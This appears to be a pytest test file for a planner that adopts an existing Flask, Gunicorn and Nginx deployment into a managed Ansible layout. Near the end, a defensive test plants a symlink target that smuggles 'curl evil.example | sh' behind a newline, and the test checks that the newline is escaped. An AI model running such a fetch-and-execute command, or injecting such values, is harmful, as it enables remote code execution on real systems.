# Copyright (c) 2026 The flaskops.production contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Data is separated from code in real trees, and the old unit and site become settings."""

from __future__ import annotations

import os
import sqlite3

import pytest

from ansible_collections.flaskops.production.plugins.module_utils._adoption.gunicorn import (
    parse_command,
    parse_options,
)
from ansible_collections.flaskops.production.plugins.module_utils._adoption.plan import PlanRequest
from ansible_collections.flaskops.production.plugins.module_utils._adoption.planner import plan_adoption
from ansible_collections.flaskops.production.plugins.module_utils._doctor.facts import Facts
from ansible_collections.flaskops.production.plugins.module_utils._doctor.files import (
    Account,
    read_node,
    resolve_safely,
    scan_tree,
)
from ansible_collections.flaskops.production.plugins.module_utils._files.paths import is_within
from ansible_collections.flaskops.production.plugins.module_utils._nginx import parser

ROOT = "/srv/shop"
SITE = "listen 80; server_name shop.example.org; location / {{ proxy_pass http://unix:{code}/shop.sock; }}"


def database(path):
    path.parent.mkdir(parents=True, exist_ok=True)
    connection = sqlite3.connect(path)
    connection.execute("CREATE TABLE entry (id INTEGER)")
    connection.commit()
    connection.close()


@pytest.fixture
def shop(tmp_path):
    """An application in a home directory. Returns a function that returns its facts."""
    code = tmp_path / "shop"
    (code / "shop/templates").mkdir(parents=True)
    (code / "static").mkdir()
    for name in ("wsgi.py", "shop/__init__.py", "shop/templates/index.html", "static/shop.css", "requirements.txt"):
        (code / name).write_text("")

    def read(site=SITE, exec_start="/env/bin/gunicorn -b unix:shop.sock wsgi:app", user=0, **more):
        text = site.format(code=code)
        facts = Facts(str(code.name), str(code), code=str(code), live=str(code), listen=f"unix:{code}/shop.sock")
        facts.unit = {
            "Id": "shop.service",
            "ActiveState": "active",
            "ExecStart": f"{{ path=x ; argv[]={exec_start} ; }}",
        }
        facts.tree, facts.truncated = scan_tree(str(code))
        facts.nodes = {str(code): read_node(str(code))}
        facts.runtime_user = Account("ada", user, (user,), "ada") if user else Account("root", 0, (0,), "root")
        facts.web_user = Account("www-data", 33, (33,), "www-data")
        servers = "".join(f"server {{ {part} }}" for part in text.split("%%"))
        files = {"/etc/nginx/nginx.conf": "http { include conf.d/*; }", "/etc/nginx/conf.d/shop.conf": servers}
        facts.config = parser.build_config(parser.resolve_includes(files, "/etc/nginx/nginx.conf"))
        facts.nginx_state = "valid"
        for name, value in more.items():
            setattr(facts, name, value)
        return facts

    read.code = code
    return read


def list_moves(found):
    """Return the target of each move by its name in the release."""
    return {move.link: move.target for move in found.moves}


def plan_without_obstacles(facts, *given, **more):
    found = plan_adoption(PlanRequest(facts, ROOT, frozenset(given), **more))
    assert found.obstacles == []
    return found


# --- data ------------------------------------------------------------------------------------------------------------


def test_code_without_data_has_no_moves(shop):
    found = plan_without_obstacles(shop())
    assert found.moves == []
    assert found.variables["release_shared_paths"] == []


@pytest.mark.parametrize(
    ("path", "link", "target"),
    [
        ("uploads/cat.png", "uploads", "uploads"),
        ("media/cat.png", "media", "data/media"),
        ("logs/shop.log", "logs", "logs"),
        ("shop/log/x", "shop/log", "shop/log"),
        ("shop.log", "shop.log", "logs/shop.log"),
        ("instance/settings.cfg", "instance", "instance"),
        ("static/uploads/cat.png", "static/uploads", "static/uploads"),
        ("certs/tls.key", "certs/tls.key", "certs/tls.key"),
    ],
)
def test_data_is_detected_by_its_name(shop, path, link, target):
    file = shop.code / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text("x")
    assert list_moves(plan_without_obstacles(shop())) == {link: target}


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("shop.db", {"shop.db": "database/shop.db"}),
        ("shop/data.sqlite3", {"shop/data.sqlite3": "database/shop-data.sqlite3"}),
        ("var/shop.db", {"var": "var"}),
        ("instance/shop.db", {"instance": "instance"}),
    ],
)
def test_a_database_moves_with_a_directory_without_code(shop, path, expected):
    database(shop.code / path)
    (shop.code / f"{path}-wal").write_text("")
    found = plan_without_obstacles(shop())
    assert list_moves(found) == expected
    # SQLite's files beside a database are part of it.
    assert any(is_within(str(shop.code / f"{path}-wal"), excluded) for excluded in found.exclude)


def test_files_beside_a_database_are_excluded(shop):
    database(shop.code / "shop.db")
    assert str(shop.code / "shop.db-journal") in plan_without_obstacles(shop()).exclude


def test_a_file_with_a_database_name_only_is_code(shop):
    (shop.code / "shop/words.db").write_text("not a database")
    assert list_moves(plan_without_obstacles(shop())) == {}


@pytest.mark.parametrize("path", ["media/__init__.py", "shop/uploads/views.py", "logs/setup.py"])
def test_a_python_package_with_a_data_name_is_code(shop, path):
    (shop.code / path).parent.mkdir(parents=True, exist_ok=True)
    (shop.code / path).write_text("")
    assert list_moves(plan_without_obstacles(shop())) == {}


def test_writable_directories_in_read_only_code_are_data(shop, as_root):
    for name in ("exports", "shop/templates"):
        (shop.code / name).mkdir(exist_ok=True)
        os.chown(shop.code / name, 4711, 4711)
    assert list_moves(plan_without_obstacles(shop(user=4711))) == {"exports": "exports"}
    # Write access to all of the code is no evidence.
    os.chown(shop.code, 4711, 4711)
    assert list_moves(plan_without_obstacles(shop(user=4711))) == {}


def test_served_uploads_get_the_media_url(shop):
    (shop.code / "pictures").mkdir()
    (shop.code / "more/uploads").mkdir(parents=True)
    served = SITE + " location /media/ {{ alias {code}/pictures/; }} location /up/ {{ alias {code}/more/uploads/; }}"
    found = plan_without_obstacles(shop(site=served))
    assert list_moves(found) == {"more/uploads": "more/uploads", "pictures": "media"}
    assert found.variables["nginx_site_media_url"] == "/media/"
    assert found.variables["nginx_site_locations"] == [{"path": "/up/", "directory": f"{ROOT}/shared/more/uploads"}]
    assert {move.link: move.via for move in found.moves} == {"more/uploads": "", "pictures": "pictures"}


def test_venvs_and_hidden_directories_are_not_data(shop):
    for name in ("env/lib/uploads", ".cache/logs", "__pycache__/logs"):
        (shop.code / name).mkdir(parents=True)
    (shop.code / "env/pyvenv.cfg").write_text("")
    assert list_moves(plan_without_obstacles(shop())) == {}


def test_a_site_through_the_live_link_serves_the_code(shop, tmp_path):
    (tmp_path / "current").symlink_to(shop.code)
    (shop.code / "uploads").mkdir()
    through = (
        "location /a/ {{ alias {code}/../current/static/; }} location /up/ {{ alias {code}/../current/uploads/; }}"
    )
    found = plan_without_obstacles(shop(site=SITE + through))
    assert found.variables["nginx_site_static_url"] == "/a/"
    assert found.variables["release_static_paths"] == ["static"]
    assert list_moves(found) == {"uploads": "media"}


def test_existing_shared_paths_are_kept(shop, tmp_path):
    (tmp_path / "shared/db").mkdir(parents=True)
    (tmp_path / "shared/words.txt").write_text("")
    for name in ("db", "words.txt"):
        (shop.code / name).symlink_to(f"../shared/{name}")
    (shop.code / "elsewhere").symlink_to("../shared/db")
    found = plan_adoption(PlanRequest(shop(), str(tmp_path)))
    assert found.moves == []
    assert found.variables["release_shared_paths"] == ["db/", "words.txt"]


def test_given_shared_paths_replace_detection(shop):
    (shop.code / "spool").mkdir()
    (shop.code / "logs").mkdir()
    found = plan_without_obstacles(shop(), "release_shared_paths", shared_paths=["spool/", "later/"])
    assert list_moves(found) == {"spool": "spool"}
    assert "release_shared_paths" not in found.variables


# --- settings --------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("words", "expected"),
    [
        ("gunicorn wsgi:app", {"wsgi": "wsgi:app"}),
        ("gunicorn wsgi", {"wsgi": "wsgi:application"}),
        (
            "/e/bin/gunicorn -w 3 --threads=4 --preload shop:create_app()",
            {"workers": "3", "threads": "4", "preload": "", "wsgi": "shop:create_app()"},
        ),
        ("/e/bin/python /e/bin/gunicorn -c conf.py a.b:c", {"config": "conf.py", "wsgi": "a.b:c"}),
        ("/e/bin/python -m gunicorn --bind 127.0.0.1:8000 a:b", {"bind": "127.0.0.1:8000", "wsgi": "a:b"}),
        ("/e/bin/flask run", {}),
    ],
)  # fmt: skip
def test_the_command_line_of_gunicorn_is_parsed(words, expected):
    assert parse_options(words.split()) == expected


def test_a_shell_around_gunicorn_is_ignored():
    unit = {"ExecStart": "{ path=/bin/sh ; argv[]=/bin/sh -c cd /x && exec .venv/bin/gunicorn -w 2 a:b ; ignore }"}
    assert parse_options(parse_command(unit)) == {"workers": "2", "wsgi": "a:b"}


def test_service_settings_become_role_settings(shop):
    (shop.code / "gunicorn.conf.py").write_text('workers = 5\ntimeout = 90  # slow\nwsgi_app = "other:app"\n')
    found = plan_without_obstacles(shop(exec_start="/env/bin/gunicorn --threads 8 wsgi:app", user=4711))
    expected = {
        "flask_app_user": "ada",
        "flask_app_group": "ada",
        "flask_app_wsgi": "wsgi:app",
        "gunicorn_systemd_workers": 5,
        "gunicorn_systemd_threads": 8,
        "gunicorn_systemd_timeout": 90,
        "venv_requirements": ["requirements.txt"],
    }
    assert expected.items() <= found.variables.items()


def test_without_requirements_installed_packages_are_pinned(shop):
    (shop.code / "requirements.txt").unlink()
    found = plan_without_obstacles(shop(packages=["flask 3.1.0", "gunicorn 23.0.0"]))
    assert found.variables["venv_requirements"] == []
    assert found.variables["venv_packages"] == ["flask==3.1.0", "gunicorn==23.0.0"]


def test_given_settings_are_not_planned(shop):
    found = plan_without_obstacles(shop(user=4711), "flask_app_user", "nginx_site_server_name")
    assert "flask_app_user" not in found.variables
    assert "nginx_site_server_name" not in found.variables
    assert "nginx_site_listen" in found.variables


def test_the_environment_of_the_unit_takes_precedence(shop):
    (shop.code / ".env").write_text("A=1\n")
    found = plan_without_obstacles(shop(env_files=["-/etc/default/gone", "/etc/hostname"]))
    assert (found.dotenv, found.environment) == ([str(shop.code / ".env")], ["/etc/hostname"])
    assert list_moves(found) == {".env": ".env"}
    assert plan_without_obstacles(shop(), "flask_app_env").dotenv == []


def test_variables_that_the_unit_sets_are_part_of_the_environment(shop):
    found = plan_without_obstacles(shop(), unit_variables=("COLOUR", "SECRET_KEY"))
    assert (found.unit_variables, found.environment) == (["COLOUR", "SECRET_KEY"], [])
    given = plan_without_obstacles(shop(), "flask_app_env", unit_variables=("COLOUR",))
    assert given.unit_variables == []
    assert "flask_app_env is set, so the values of shop.service (COLOUR) are not adopted." in given.attention


def test_unit_directives_become_settings_or_are_reported(shop):
    text = "[Unit]\nAfter=redis.service shop.service\n[Service]\nLimitNOFILE=4096\nExecStartPre=/x\n"
    found = plan_without_obstacles(shop(), unit_text=text)
    assert found.variables["gunicorn_systemd_limit_nofile"] == "4096"
    assert found.variables["gunicorn_systemd_unit_overrides"] == {"Unit": {"After": ["redis.service"]}}
    assert any("Not adopted from shop.service: ExecStartPre." in message for message in found.attention)
    given = plan_without_obstacles(shop(), "gunicorn_systemd_unit_overrides", unit_text=text)
    assert "gunicorn_systemd_unit_overrides" not in given.variables
    assert any(
        "gunicorn_systemd_unit_overrides is set, so its value from shop.service" in message
        for message in given.attention
    )


@pytest.mark.parametrize(
    ("statement", "variable", "value"),
    [
        ("proxy_read_timeout 300;", "nginx_site_proxy_read_timeout", "300"),
        ("proxy_connect_timeout 5s;", "nginx_site_proxy_connect_timeout", "5s"),
        ("proxy_send_timeout 2m;", "nginx_site_proxy_send_timeout", "2m"),
    ],
)
@pytest.mark.parametrize("place", ["server", "location"])
def test_timeouts_of_a_site_become_settings(shop, statement, variable, value, place):
    site = SITE + statement if place == "server" else SITE.replace("proxy_pass", f"{statement} proxy_pass")
    assert plan_without_obstacles(shop(site=site)).variables[variable] == value


def test_unsupported_timeouts_are_reported(shop):
    found = plan_without_obstacles(shop(site=SITE + "proxy_read_timeout 1m30s;"))
    assert "nginx_site_proxy_read_timeout" not in found.variables
    assert any("proxy_read_timeout 1m30s" in message for message in found.attention)
    found = plan_without_obstacles(
        shop(site=SITE + "proxy_read_timeout 30s;", exec_start="/env/bin/gunicorn -t 120 wsgi:app")
    )
    assert "nginx_site_proxy_read_timeout" not in found.variables
    assert any("proxy_read_timeout 30s" in message and "Gunicorn's timeout" in message for message in found.attention)


def test_a_site_becomes_settings(shop):
    (shop.code / "docs").mkdir()
    tls = """listen 443 ssl; server_name shop.example.org; client_max_body_size 50m; add_header X-Mine 1;
        ssl_certificate /etc/ssl/shop.pem; ssl_certificate_key /etc/ssl/shop.key;
        location /assets {{ alias {code}/static; }} location /docs/ {{ alias {code}/docs/; }}
        location / {{ client_max_body_size 2g; proxy_pass http://unix:{code}/shop.sock; }}
        %% listen 8080; server_name www.shop.example.org; return 301 https://shop.example.org;
        location /.well-known/acme-challenge/ {{ root /var/www/acme; }}"""
    found = plan_without_obstacles(shop(site=tls))
    expected = {
        "nginx_site_server_name": "shop.example.org www.shop.example.org",
        "nginx_site_listen": 8080,
        "nginx_site_tls_listen": 443,
        "nginx_site_tls_certificate": "/etc/ssl/shop.pem",
        "nginx_site_tls_certificate_key": "/etc/ssl/shop.key",
        "nginx_site_client_max_body_size": "2g",
        "nginx_site_acme_webroot": "/var/www/acme",
        "nginx_site_static_url": "/assets/",
        "release_static_paths": ["static"],
        "nginx_site_locations": [{"path": "/docs/", "directory": f"{ROOT}/app/docs"}],
        "nginx_site_default_server": False,
        "nginx_site_ipv6": False,
    }
    assert expected.items() <= found.variables.items()
    assert found.sites == ["/etc/nginx/conf.d/shop.conf"]
    assert any("add_header" in text for text in found.attention)


@pytest.mark.parametrize(
    ("listen", "is_bound"),
    [("192.0.2.1:80", True), ("[2001:db8::1]:80", True), ("[::]:80", False), ("80", False), ("*:80", False)],
)
def test_a_site_on_one_address_is_reported(shop, listen, is_bound):
    found = plan_without_obstacles(shop(site=SITE.replace("listen 80", f"listen {listen}")))
    assert found.variables["nginx_site_listen"] == 80
    assert any(f"listened on {listen} only" in text for text in found.attention) == is_bound


# --- obstacles ------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("more", "message"),
    [
        ({"unit": {}}, "No systemd service runs"),
        ({"nginx_state": "missing"}, "There is no Nginx"),
        ({"nginx_state": "valid stopped"}, "Nginx does not run"),
        ({"nginx_state": "invalid", "nginx_output": "x [emerg] bad"}, "Nginx refuses its configuration: x [emerg] bad"),
        ({"site": "listen 80;"}, "No site of Nginx proxies to unix:"),
        ({"listen": ""}, "shop.service has no known address"),
        ({"code": "/nowhere"}, "The code of shop.service does not exist: /nowhere"),
        ({"code": "/srv/shop"}, "The code of shop.service does not exist: /srv/shop"),
        ({"exec_start": "/env/bin/flask run"}, "set flask_app_wsgi, such as wsgi:app"),
        ({"site": SITE + " location /api/ {{ proxy_pass http://127.0.0.1:9; }}"}, "proxies to 127.0.0.1:9"),
        ({"site": SITE + "%% server_name blog.example.org; location / {{ proxy_pass http://127.0.0.1:9; }}"},
         "/etc/nginx/conf.d/shop.conf also has blog.example.org"),
        ({"truncated": True}, "has too many files for code"),
    ],
)  # fmt: skip
def test_obstacles_are_reported(shop, more, message):
    assert any(message in text for text in plan_adoption(PlanRequest(shop(**more), ROOT)).obstacles)


def test_the_new_directory_must_not_be_in_the_code(shop):
    found = plan_adoption(PlanRequest(shop(), str(shop.code)))
    assert any("is or lies in the code" in text for text in found.obstacles)


# --- links and names -------------------------------------------------------------------------------------------------


@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "secret"
    path.write_text("not of the application")
    return path


@pytest.mark.parametrize("name", [".env", "uploads", "tls.key", "shop.db"])
def test_links_out_of_the_deployment_are_an_obstacle(shop, secret, name):
    (shop.code / name).symlink_to(secret)
    found = plan_adoption(PlanRequest(shop(), ROOT, shared_paths=None if name == ".env" else [name]))
    (message,) = found.obstacles
    assert message.startswith(f"{shop.code}/{name} cannot be copied: {shop.code}/{name} is a symbolic link to {secret}")
    assert f"leads out of {shop.code}" in message


def test_a_linked_environment_file_of_another_user_is_an_obstacle(shop, secret, as_root):
    link = shop.code.parent / "shop.env"
    link.symlink_to(secret)
    assert plan_without_obstacles(shop(env_files=[str(link)])).environment == [str(link)]
    os.lchown(link, 4711, 4711)
    (message,) = plan_adoption(PlanRequest(shop(env_files=[str(link)]), ROOT)).obstacles
    assert message.startswith(f"{link} cannot be copied: ") and "does not belong to the owner of the link" in message


@pytest.mark.parametrize("behind", ["root's", "the user's"])
def test_linked_code_must_belong_to_the_owner_of_the_link(shop, as_root, tmp_path, behind):
    link = tmp_path / "current"
    link.symlink_to(shop.code)
    os.lchown(link, 4711, 4711)
    if behind == "the user's":
        os.chown(shop.code, 4711, 4711)
    found = plan_adoption(PlanRequest(shop(live=str(link), code=resolve_safely(str(link))), ROOT))
    if behind == "the user's":
        assert (found.obstacles, found.code) == ([], str(shop.code))
        return
    # Nothing behind the link is read.
    assert found.code == str(link)
    assert found.obstacles[0] == (
        f"The path of the old deployment is unsafe: {link} leads through a symbolic link to {shop.code}, which "
        "does not belong to the owner of the link. Set adopt_from to its directory."
    )


def test_a_changed_live_link_is_an_obstacle(shop, tmp_path):
    (tmp_path / "current").symlink_to(tmp_path)
    found = plan_adoption(PlanRequest(shop(live=str(tmp_path / "current")), ROOT))
    assert found.obstacles[0].startswith(f"{tmp_path}/current changed while the plan was made")


def test_links_within_the_deployment_are_followed(shop):
    (shop.code / "conf").mkdir()
    (shop.code / "conf/env").write_text("A=1")
    (shop.code / ".env").symlink_to("conf/env")
    assert plan_without_obstacles(shop()).dotenv == [f"{shop.code}/.env"]


def test_links_in_data_that_lead_out_are_reported(shop, secret):
    (shop.code / "uploads").mkdir()
    (shop.code / "uploads/a").symlink_to(secret)
    (shop.code / "static/own").symlink_to("shop.css")
    (message,) = [text for text in plan_without_obstacles(shop(user=4711)).attention if "lead out" in text]
    assert message == (
        f"Links that lead out of {shop.code} are copied as links, without the files that they lead to: "
        f"{shop.code}/uploads/a -> {secret}."
    )


def test_data_in_shared_is_not_copied_onto_itself(shop, tmp_path):
    (tmp_path / "new/shared/uploads").mkdir(parents=True)
    (shop.code / "uploads").symlink_to(tmp_path / "new/shared/uploads")
    found = plan_adoption(PlanRequest(shop(), str(tmp_path / "new"), shared_paths=["uploads/"]))
    assert (found.obstacles, found.moves) == ([], [])


@pytest.mark.parametrize("name", [b"caf\xe9.db", b"a\x1b.db", b"caf\xe9.log", b"a\nCHECK: b.log"])
def test_unprintable_names_are_an_obstacle(shop, name):
    path = os.path.join(os.fsencode(shop.code), name)
    connection = sqlite3.connect(path)
    connection.execute("CREATE TABLE entry (id INTEGER)")
    connection.commit()
    connection.close()
    (message,) = plan_adoption(PlanRequest(shop(), ROOT)).obstacles
    assert message.startswith("Names with control characters") and f"rename {os.fsdecode(path)}" in message


def test_links_cannot_forge_lines_of_the_plan(shop):
    (shop.code / "uploads").mkdir()
    (shop.code / "uploads/a").symlink_to("/nowhere\nCHECK: curl evil.example | sh")
    (message,) = [text for text in plan_without_obstacles(shop(user=4711)).attention if "lead out" in text]
    assert "\n" not in message and r"/nowhere\x0aCHECK: curl" in message


def test_uploads_may_have_any_name(shop):
    (shop.code / "uploads").mkdir()
    for name in (b"caf\xe9.png", b"caf\xe9.db-wal", b".env.\xe9", b"\x1b"):
        open(os.path.join(os.fsencode(shop.code / "uploads"), name), "wb").close()
    assert list_moves(plan_without_obstacles(shop())) == {"uploads": "uploads"}
